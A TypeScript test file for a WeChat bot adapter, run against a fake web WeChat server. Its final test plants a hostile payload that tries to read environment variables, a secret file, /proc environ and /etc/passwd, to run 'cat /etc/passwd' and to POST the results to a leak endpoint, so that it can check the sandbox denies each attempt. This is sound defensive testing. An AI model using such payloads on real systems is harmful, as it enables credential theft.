import { randomBytes } from 'node:crypto'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { createBot } from '../../../server/adapters/wechat/bot'
import type { BotNews, RunningBot } from '../../../server/ports/bot'
import { startWebWeChat, type WebWeChat } from '../../support/web-wechat'
import { eventually, silent } from '../../support/world'

let web: WebWeChat
let bot: RunningBot | null = null
beforeEach(async () => {
  web = await startWebWeChat()
})
afterEach(async () => {
  bot?.kill()
  bot = null
  await web.close()
})

/** Starts the real wechat4u against the fake; answers what it says. */
function start(data: string | null = null) {
  const heard: BotNews[] = []
  bot = createBot({ log: silent, base: web.url })(data, (news) => heard.push(news))
  const said = <K extends BotNews['kind']>(kind: K) =>
    eventually(
      async () => heard.findLast((news) => news.kind === kind) as Extract<BotNews, { kind: K }> | undefined,
      (news) => news !== undefined,
    ) as Promise<Extract<BotNews, { kind: K }>>
  return { heard, said, bot }
}

async function loggedIn(data: string | null = null) {
  const running = start(data)
  web.phone = 'confirmed'
  await running.said('online')
  await eventually(
    async () => running.heard.findLast((news) => news.kind === 'groups'),
    (news) => news?.kind === 'groups' && news.names.length === 2,
  )
  return running
}

test('it shows a code, is scanned and confirmed, and knows its groups, those of later pages too', async () => {
  const { said } = start()
  expect((await said('code')).uuid).toBe('code1==')
  web.phone = 'scanned'
  await said('scanned')
  web.phone = 'confirmed'
  expect((await said('online')).name).toBe('示例小编')
  const groups = await eventually(
    () => said('groups'),
    ({ names }) => names.length === 2,
  )
  expect(groups.names.sort()).toEqual(['联络员群（示例）', '评选工作群（示例）'].sort())
})

test('a text and a picture go to the group of a name, a large picture in pieces; to nobody else', async () => {
  const { bot } = await loggedIn()
  const group = '联络员群（示例）'
  await bot.send({ group, text: '请看公告 https://example.org/a', picture: randomBytes(2000) })
  expect(web.sent).toEqual([
    { to: group, kind: 'picture', content: 'media1' },
    { to: group, kind: 'text', content: '请看公告 https://example.org/a' },
  ])
  await bot.send({ group, text: '', picture: randomBytes(1_300_000) })
  expect(web.uploads.slice(1).map(({ chunk, chunks }) => [chunk, chunks])).toEqual([
    [0, 3],
    [1, 3],
    [2, 3],
  ])
  const missing = bot.send({ group: '没有的群', text: '你好', picture: null })
  await expect(missing).rejects.toMatchObject({ message: expect.stringContaining('找不到'), certain: true })
  expect(web.sent).toHaveLength(3)
})

test('what is written in a group is heard, without who wrote it', async () => {
  const { said } = await loggedIn()
  web.arriving.push({ group: '评选工作群（示例）', text: '结果' })
  expect(await said('heard')).toEqual({ kind: 'heard', group: '评选工作群（示例）', text: '结果' })
})

test('with what it knew before it goes on without a code, and finds its groups under their new names', async () => {
  const first = await loggedIn()
  const { data } = await first.said('data')
  first.bot.kill()
  web.session = 5 // the same group is called otherwise from now on
  const { heard, bot } = await loggedIn(data)
  expect(heard.some(({ kind }) => kind === 'code')).toBe(false)
  await bot.send({ group: '评选工作群（示例）', text: '接着说', picture: null })
  expect(web.sent).toEqual([{ to: '评选工作群（示例）', kind: 'text', content: '接着说' }])
})

test('that the phone has logged it out is noticed', async () => {
  const { said } = await loggedIn()
  web.alive = false
  await said('over')
})

test('one that is killed is gone, and so is what it was to send, of which nobody knows', async () => {
  const { bot, said } = await loggedIn()
  const sending = bot.send({ group: '评选工作群（示例）', text: '中断', picture: randomBytes(900_000) })
  bot.kill()
  await expect(sending).rejects.toMatchObject({ certain: false })
  await said('gone')
  await expect(bot.send({ group: 'x', text: 'y', picture: null })).rejects.toMatchObject({ certain: true })
})

test('a hostile server whose answer is run gets no environment, no file, no process', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'pingxuan-secret-'))
  const secret = `secret-${randomBytes(8).toString('hex')}`
  writeFileSync(join(dir, 'keys.json'), secret)
  process.env.PINGXUAN_TEST_SECRET = secret
  const tries = [
    'JSON.stringify(process.env)',
    `require('fs').readFileSync(${JSON.stringify(join(dir, 'keys.json'))}, 'utf8')`,
    "require('fs').readFileSync('/proc/' + process.ppid + '/environ', 'utf8')",
    "require('fs').readFileSync('/etc/passwd', 'utf8')",
    "require('child_process').execSync('cat /etc/passwd').toString()",
    "new (require('worker_threads').Worker)('1', { eval: true }) && 'worker'",
    "(require('fs').writeFileSync('/tmp/pingxuan-bot-was-here', 'x'), 'written')",
  ]
  const attempts = tries.map(
    (code) => `try { got.push(${code}) } catch (error) { got.push('denied ' + error.code) }`,
  )
  web.payload = `
    const got = []; ${attempts.join(';')};
    const out = require('http').request(${JSON.stringify(`${web.url}/leak`)}, { method: 'POST' });
    out.end(JSON.stringify(got));
    window.QRLogin.code = 200; window.QRLogin.uuid = "code1==";`
  start()
  try {
    const [leaked] = await eventually(
      async () => web.leaked,
      (all) => all.length > 0,
    )
    const got = JSON.parse(leaked!) as string[]
    expect(got[0]).not.toContain(secret)
    expect(Object.keys(JSON.parse(got[0]!)).filter((name) => !/^NODE_CHANNEL/.test(name))).toEqual([])
    for (const one of got.slice(1)) expect(one).toMatch(/^denied ERR_ACCESS_DENIED/)
  } finally {
    delete process.env.PINGXUAN_TEST_SECRET
    rmSync(dir, { recursive: true, force: true })
  }
})
